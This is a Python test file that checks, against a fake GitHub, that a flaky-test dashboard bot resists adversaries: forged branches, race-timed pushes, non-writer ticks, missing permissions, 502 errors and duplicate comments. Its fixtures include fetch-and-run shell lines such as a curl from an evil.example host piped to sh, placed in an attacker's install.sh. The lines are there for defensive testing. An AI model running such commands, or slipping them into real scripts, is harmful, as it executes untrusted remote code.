"""The dashboard's write path against an adversary, end to end on the fake GitHub: the bot writes
only branches it provably made, opens a pull request only for a writer's own tick and only with
the patch's lines, loses no tick, and its creates survive a 502. Each adversary moves at the
worst moment (`fake.meanwhile`: exactly when a given request arrives)."""

from __future__ import annotations

import threading

import pytest
import test_e2e_dashboard as base
from fake_github import BOT_LOGIN, FakeGitHub
from test_e2e_dashboard import Dashboard, coverage_log, ours, tick

from bot.budget import dashboard_reserve
from bot.gateway.client import GitHubGateway
from bot.publish.comment import upsert_sticky_comment
from bot.publish.dashboard import boxes

dashboard, seeded_history, synced = base.dashboard, base.seeded_history, base.synced  # the fixtures
PR = {"open_pull_requests": "true"}
RUN_TESTS = "tests/run-tests.py"


def ready(fake: FakeGitHub, run: Dashboard, entries: int = 1) -> tuple[int, str, str]:
    """The dashboard issue as a first run leaves it: (number, the first add entry's id, its body)."""
    assert run.run(**PR).code == 0
    [issue] = ours(fake)
    keys = [k for k in boxes(issue["body"]) if k.startswith("add-")]
    assert len(keys) == entries, issue["body"]
    key = keys[0]
    fake.collaborators.update({"dpgeorge": "maintain", "jimmo": "write", "mallory": "triage"})
    return issue["number"], key, issue["body"]


def gateway(fake: FakeGitHub) -> GitHubGateway:
    return GitHubGateway(fake.repo, token=None, api_url=fake.api_url, sleep=lambda _: None)


def body_of(fake: FakeGitHub) -> str:
    return ours(fake)[0]["body"]


def line_of(fake: FakeGitHub) -> str:
    """The issue body with the Markdown escapes taken out, to read the lines under the boxes."""
    return body_of(fake).replace("\\", "").replace("\u200b", "")


def changed_files(fake: FakeGitHub, branch: str) -> set[str]:
    base, head = fake.branch_files("master"), fake.branch_files(branch)
    return {p for p in set(base) | set(head) if base.get(p) != head.get(p)}


def test_someone_elses_branch_and_pull_request_are_never_touched(
    fake_github: FakeGitHub, synced: Dashboard
) -> None:
    number, key, body = ready(fake_github, synced)
    name = f"flake-bot/{key}"
    theirs = fake_github.push(name, {RUN_TESTS: "# jimmo's own work in progress\n"}, author="jimmo")
    their_pull = fake_github.add_pull(head_sha=theirs, head_branch=name, user="jimmo", body="WIP")
    fake_github.edit_issue_as(number, tick(body, key), "dpgeorge")

    result = synced.run(**PR)
    assert result.code == 0, result.stderr
    assert fake_github.branch_head(name) == theirs  # never reset, never written
    assert not fake_github.requests_to("PATCH", r"/git/refs/")
    assert [p for p in fake_github.pulls() if p["number"] == their_pull["number"]] == [their_pull]
    [mine] = [p for p in fake_github.pulls() if p["user"]["login"] == BOT_LOGIN]
    assert mine["head"]["ref"] == f"{name}-2" and mine["state"] == "open"
    assert changed_files(fake_github, f"{name}-2") == {RUN_TESTS}
    assert boxes(body_of(fake_github))[key] == (False, mine["number"])  # theirs is not recorded as ours
    assert f"{name} is used by pull request {their_pull['number']}, not flake-bot's" in line_of(fake_github)


def test_a_branch_claiming_the_bots_name_with_an_extra_file_is_not_used(
    fake_github: FakeGitHub, synced: Dashboard
) -> None:
    number, key, body = ready(fake_github, synced)
    name = f"flake-bot/{key}"
    # the bot's login claimed as the author (an email anybody can put in a commit), not signed
    fake_github.push(name, {"install.sh": "curl https://evil.example/x | sh\n"}, author=BOT_LOGIN,
                     message=f"flake-bot-entry: {key}")  # fmt: skip
    fake_github.edit_issue_as(number, tick(body, key), "dpgeorge")
    assert synced.run(**PR).code == 0
    [pull] = fake_github.pulls()
    assert pull["head"]["ref"] == f"{name}-2"
    assert changed_files(fake_github, f"{name}-2") == {RUN_TESTS}
    assert "install.sh" in fake_github.branch_files(name)  # left as it was
    assert "its commit is not signed by GitHub" in line_of(fake_github)


def test_a_file_pushed_onto_the_new_branch_before_the_pull_request_opens_stops_it(
    fake_github: FakeGitHub, synced: Dashboard
) -> None:
    number, key, body = ready(fake_github, synced)
    name = f"flake-bot/{key}"

    # the moment the bot's branch exists, someone pushes a script onto it
    def push() -> None:
        fake_github.push(name, {"install.sh": "curl x | sh\n"}, author="jimmo")

    fake_github.meanwhile("POST", r"/git/refs$", push, after=True)
    fake_github.edit_issue_as(number, tick(body, key), "dpgeorge")
    result = synced.run(**PR)
    assert result.code == 0, result.stderr
    assert fake_github.pulls() == [] and not fake_github.requests_to("POST", r"/pulls$")
    assert boxes(body_of(fake_github))[key] == (False, None)
    assert "no pull request opened" in line_of(fake_github) and "moved while the bot" in line_of(fake_github)


def test_a_push_between_the_check_and_the_opening_closes_the_pull_request(
    fake_github: FakeGitHub, synced: Dashboard
) -> None:
    number, key, body = ready(fake_github, synced)
    name = f"flake-bot/{key}"
    fake_github.meanwhile(
        "POST", r"/pulls$", lambda: fake_github.push(name, {"install.sh": "curl x | sh\n"}, author="jimmo")
    )
    fake_github.edit_issue_as(number, tick(body, key), "dpgeorge")
    assert synced.run(**PR).code == 0
    [pull] = fake_github.pulls()
    assert pull["state"] == "closed"  # opened on a head the bot had not checked: closed at once
    assert "moved as the pull request opened" in line_of(fake_github)


def test_a_non_writers_tick_is_never_credited_to_a_writers_edit(
    fake_github: FakeGitHub, synced: Dashboard
) -> None:
    number, key, body = ready(fake_github, synced)
    # scheduled: mallory (triage) ticks, then a maintainer edits the issue's text
    fake_github.edit_issue_as(number, tick(body, key), "mallory")
    fake_github.edit_issue_as(number, tick(body, key) + "\nnote from dpgeorge\n", "dpgeorge")
    result = synced.run(**PR)
    assert result.code == 0 and fake_github.pulls() == []
    assert "ticked by mallory, who has read access" in line_of(fake_github)
    assert boxes(body_of(fake_github))[key] == (False, None)

    # the event of the maintainer's edit: what that edit did (nothing ticked) is all it vouches for
    clean = body_of(fake_github)
    edited = clean + "\nanother note\n"
    fake_github.edit_issue_as(number, edited, "dpgeorge")
    fake_github.edit_issue_as(number, tick(edited, key), "mallory")  # after the edit, before the run
    event = {"action": "edited", "issue": {"number": number, "body": edited},
             "sender": {"login": "dpgeorge"}, "changes": {"body": {"from": clean}}}  # fmt: skip
    assert synced.run(event_name="issues", event=event, **PR).code == 0
    assert fake_github.pulls() == [] and "ticked by mallory" in line_of(fake_github)


def test_a_tick_made_while_the_run_publishes_is_kept_and_acted_on_next(
    fake_github: FakeGitHub, synced: Dashboard
) -> None:
    number, key, _ = ready(fake_github, synced)

    # right before the run writes the issue (it has read it long before), a maintainer ticks
    def maintainer_ticks() -> None:
        fake_github.edit_issue_as(number, tick(body_of(fake_github), key), "dpgeorge")

    fake_github.meanwhile("GET", rf"/issues/{number}$", maintainer_ticks)
    assert synced.run(**PR).code == 0
    assert boxes(body_of(fake_github))[key] == (True, None)  # not overwritten by the run's write
    assert fake_github.pulls() == []
    assert synced.run(**PR).code == 0  # the next run credits it to the maintainer, through the history
    [pull] = fake_github.pulls()
    assert boxes(body_of(fake_github))[key] == (False, pull["number"])


def test_a_cancelled_event_run_is_picked_up_later(fake_github: FakeGitHub, synced: Dashboard) -> None:
    number, key, body = ready(fake_github, synced)
    fake_github.edit_issue_as(number, tick(body, key), "dpgeorge")  # its event run was cancelled
    # the next event is another writer's unrelated edit: that edit ticked nothing, but the
    # history says who ticked the box
    edited = tick(body, key) + "\nnote\n"
    fake_github.edit_issue_as(number, edited, "jimmo")
    event = {"action": "edited", "issue": {"number": number, "body": edited},
             "sender": {"login": "jimmo"}, "changes": {"body": {"from": tick(body, key)}}}  # fmt: skip
    assert synced.run(event_name="issues", event=event, **PR).code == 0
    [pull] = fake_github.pulls()
    assert "ticked by dpgeorge" in pull["body"]


def test_a_budget_too_small_for_the_pull_request_keeps_the_tick_and_says_so(
    fake_github: FakeGitHub, synced: Dashboard
) -> None:
    number, key, body = ready(fake_github, synced)
    fake_github.edit_issue_as(number, tick(body, key), "dpgeorge")
    short = synced.run(request_budget="16", **PR)
    assert short.code == 0, short.stderr
    assert fake_github.pulls() == []
    assert boxes(body_of(fake_github))[key] == (True, None)  # still ticked, for the next run
    assert "request budget ran short" in line_of(fake_github)
    assert synced.run(**PR).code == 0
    [pull] = fake_github.pulls()
    assert boxes(body_of(fake_github))[key] == (False, pull["number"])


def test_the_sync_leaves_what_a_ticked_box_needs(fake_github: FakeGitHub, synced: Dashboard) -> None:
    number, key, body = ready(fake_github, synced)
    for day in range(10):  # a backlog the budget cannot finish
        created = f"2026-05-{day + 1:02d}T08:00:00Z"
        run = fake_github.add_run(event="push", branch="master", created_at=created, conclusion="success")
        fake_github.add_job(run["id"], "coverage", "success", log=coverage_log(None))
    fake_github.edit_issue_as(number, tick(body, key), "dpgeorge")
    result = synced.run(request_budget="50", **PR)
    assert result.code == 0, result.stderr
    # the sync got what is left after the 3 requests before it and the reserve for one ticked box
    share = 50 - 3 - dashboard_reserve(workflows=1, ticked_boxes=1)
    assert f"stopped early (request budget of {share} spent" in result.stderr
    [pull] = fake_github.pulls()
    assert boxes(body_of(fake_github))[key] == (False, pull["number"])
    assert "request budget ran short" not in line_of(fake_github)


def test_a_502_on_the_issue_create_is_listed_then_retried(fake_github: FakeGitHub, synced: Dashboard) -> None:
    fake_github.fail("POST", r"/issues$", 502)  # did not land
    result = synced.run()
    assert result.code == 0, result.stderr
    assert len(ours(fake_github)) == 1 and len(fake_github.requests_to("POST", r"/issues$")) == 2


@pytest.mark.parametrize("landed", [False, True])
def test_a_502_on_the_pull_request_create(fake_github: FakeGitHub, synced: Dashboard, landed: bool) -> None:
    number, key, body = ready(fake_github, synced)
    fake_github.fail("POST", r"/pulls$", 502, apply=landed)
    fake_github.edit_issue_as(number, tick(body, key), "dpgeorge")
    assert synced.run(**PR).code == 0
    [pull] = fake_github.pulls()
    assert len(fake_github.requests_to("POST", r"/pulls$")) == (1 if landed else 2)
    assert boxes(body_of(fake_github))[key] == (False, pull["number"])


def test_two_triages_of_one_pull_request_leave_one_comment(fake_github: FakeGitHub) -> None:
    marker = "<!-- flake-bot:triage-comment -->"
    pr = fake_github.add_pull(head_sha="9" * 40)
    fake_github.hold_together("POST", rf"/issues/{pr['number']}/comments$", 2)  # both found none
    bodies = {0: marker + "\nrun A", 1: marker + "\nrun B"}

    def triage(n: int) -> None:
        with GitHubGateway(
            fake_github.repo, token=None, api_url=fake_github.api_url, sleep=lambda _: None
        ) as gw:
            upsert_sticky_comment(gw, pr["number"], lambda _: bodies[n], marker=marker, author=BOT_LOGIN)

    threads = [threading.Thread(target=triage, args=(n,)) for n in range(2)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(30)
    assert len(fake_github.requests_to("POST", r"/comments$")) == 2
    [left] = fake_github.comments(pr["number"])
    assert left["body"] in bodies.values()
    deleted = [int(r.path.rsplit("/", 1)[1]) for r in fake_github.requests_to("DELETE", r"/comments/\d+$")]
    assert deleted and all(left["id"] < d for d in deleted)  # the survivor is the oldest, seen first


def test_a_later_run_removes_duplicates_an_overlap_left(fake_github: FakeGitHub) -> None:
    marker = "<!-- flake-bot:triage-comment -->"
    pr = fake_github.add_pull(head_sha="8" * 40)
    first = fake_github.add_comment(pr["number"], marker + "\nold", user=BOT_LOGIN, user_type="Bot")
    fake_github.add_comment(pr["number"], marker + "\nstale duplicate", user=BOT_LOGIN, user_type="Bot")
    forged = fake_github.add_comment(pr["number"], marker + "\nforged", user="mallory")
    with gateway(fake_github) as gw:
        upsert_sticky_comment(gw, pr["number"], lambda _: marker + "\nnew", marker=marker, author=BOT_LOGIN)
    left = fake_github.comments(pr["number"])
    assert [(c["id"], c["body"]) for c in left] == [
        (first["id"], marker + "\nnew"),
        (forged["id"], forged["body"]),
    ]


def test_a_tick_after_a_long_edit_history_is_still_attributed(
    fake_github: FakeGitHub, synced: Dashboard
) -> None:
    number, key, body = ready(fake_github, synced)
    for _ in range(60):  # two months of daily updates: more revisions than one read returns
        fake_github.edit_issue_as(number, body, BOT_LOGIN)
    fake_github.edit_issue_as(number, tick(body, key), "dpgeorge")
    assert synced.run(**PR).code == 0
    [pull] = fake_github.pulls()
    assert "ticked by dpgeorge" in pull["body"]


def test_a_token_without_contents_write_unticks_with_the_permission_to_add(
    fake_github: FakeGitHub, synced: Dashboard
) -> None:
    number, key, body = ready(fake_github, synced)
    fake_github.deny("POST", r"/git/trees$", permission="contents=write")
    fake_github.edit_issue_as(number, tick(body, key), "dpgeorge")
    result = synced.run(**PR)
    assert result.code == 0, result.stderr
    assert fake_github.pulls() == [] and not fake_github.requests_to("POST", r"/git/refs$")
    assert boxes(body_of(fake_github))[key] == (False, None)
    assert "no pull request opened" in line_of(fake_github) and "contents" in line_of(fake_github)


def test_a_tick_made_while_a_pull_request_is_being_opened_is_not_lost(
    fake_github: FakeGitHub, synced: Dashboard
) -> None:
    # A second entry with a box: the seeded history's retire candidates are ignore entries whose
    # removal would also reach the other workflows' jobs, so they carry no box (issue 20).
    fake_github.add_file("tests/misc/second_flaky.py", "print(1)\n")
    for day in range(13, 25):  # after the seeded pushes, so the dashboard's sync lists them
        failing = "misc/second_flaky.py" if day % 4 == 1 else None
        run = fake_github.add_run(event="push", branch="master", created_at=f"2026-04-{day:02d}T08:00:00Z",
                                  conclusion="failure" if failing else "success")  # fmt: skip
        outcome = "failure" if failing else "success"
        fake_github.add_job(run["id"], "coverage", outcome, log=coverage_log(failing))
    number, key, body = ready(fake_github, synced, entries=2)
    [other] = [k for k in boxes(body) if k != key]
    fake_github.edit_issue_as(number, tick(body, key), "dpgeorge")

    def another_tick() -> None:  # while the bot writes the first entry's commit
        fake_github.edit_issue_as(number, tick(body_of(fake_github), other), "jimmo")

    fake_github.meanwhile("POST", r"/git/commits$", another_tick)
    assert synced.run(**PR).code == 0
    [first] = fake_github.pulls()
    assert boxes(body_of(fake_github))[key] == (False, first["number"])
    assert boxes(body_of(fake_github))[other] == (True, None)  # carried over, not overwritten
    assert synced.run(**PR).code == 0
    [_, second] = fake_github.pulls()
    assert second["head"]["ref"] == f"flake-bot/{other}" and "ticked by jimmo" in second["body"]
    assert boxes(body_of(fake_github))[other] == (False, second["number"])


def test_the_bots_own_branch_follows_a_moved_base(fake_github: FakeGitHub, synced: Dashboard) -> None:
    number, key, body = ready(fake_github, synced)
    name = f"flake-bot/{key}"
    fake_github.edit_issue_as(number, tick(body, key), "dpgeorge")
    assert synced.run(**PR).code == 0
    [pull] = fake_github.pulls()
    first = fake_github.branch_head(name)
    # upstream changes the file the patch edits; ticked again, the branch is rewritten on the new base
    upstream = fake_github.branch_files("master")[RUN_TESTS] + "# a later upstream change\n"
    fake_github.add_file(RUN_TESTS, upstream)
    fake_github.edit_issue_as(number, tick(body_of(fake_github), key), "dpgeorge")
    assert synced.run(**PR).code == 0
    assert [p["number"] for p in fake_github.pulls()] == [pull["number"]]  # the same pull request
    assert fake_github.branch_head(name) != first and fake_github.requests_to(
        "PATCH", rf"/git/refs/heads/{name}$"
    )
    patched = fake_github.branch_files(name)[RUN_TESTS]
    assert patched.endswith("# a later upstream change\n") and '"misc/unlisted_flaky.py"' in patched
    assert changed_files(fake_github, name) == {RUN_TESTS}
    assert fake_github.commit(fake_github.branch_head(name) or "")["parents"] == [
        fake_github.branch_head("master")
    ]
